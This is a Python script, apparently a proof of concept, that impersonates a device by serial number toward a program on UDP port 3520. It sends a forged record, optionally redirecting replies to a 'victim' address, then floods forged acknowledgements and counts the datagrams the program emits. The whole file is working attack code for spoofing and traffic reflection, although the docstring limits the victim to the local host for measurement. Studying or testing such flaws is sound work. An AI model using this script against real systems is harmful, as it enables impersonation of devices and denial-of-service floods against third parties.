"""Sends a forged record and then forged acknowledgements in the name of a unit, and counts the datagrams
that the program sends for them.

usage: forged_acknowledgements.py HOST SERIAL COUNT [VICTIM PORT]

HOST is the program's address, SERIAL the unit's serial number in 12 hexadecimal digits. With a VICTIM, an
address of this host, the record leads there; without one the record has no address, and broadcasts to port
3520 are counted. Afterwards a reply with the text DONE goes to the program, and the count to the output.
"""

import socket
import sys
import time


def main():
    host, serial, count = sys.argv[1], bytes.fromhex(sys.argv[2]), int(sys.argv[3])
    victim = (sys.argv[4], int(sys.argv[5])) if len(sys.argv) > 4 else None
    header = b"^^<U>" + bytes(6) + b"<S>" + serial + b"$"
    record = b"<M>" + bytes.fromhex("024B5800FFFF")
    if victim:
        record += b"<I>" + socket.inet_aton(victim[0]) + b"<P>" + victim[1].to_bytes(2, "big")
    record += b"<S>" + serial

    counter = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    counter.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 20)
    counter.bind(victim or ("", 3520))
    sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sender.sendto(header + record, (host, 3520))
    for _ in range(count):
        sender.sendto(header + b"ok\r", (host, 3520))

    heard = 0
    end = time.monotonic() + 3
    while (left := end - time.monotonic()) > 0:
        counter.settimeout(left)
        try:
            heard += counter.recv(2048) == b"^^IdX"
        except TimeoutError:
            break
    sender.sendto(header + b"DONE", (host, 3520))
    print(heard)


main()
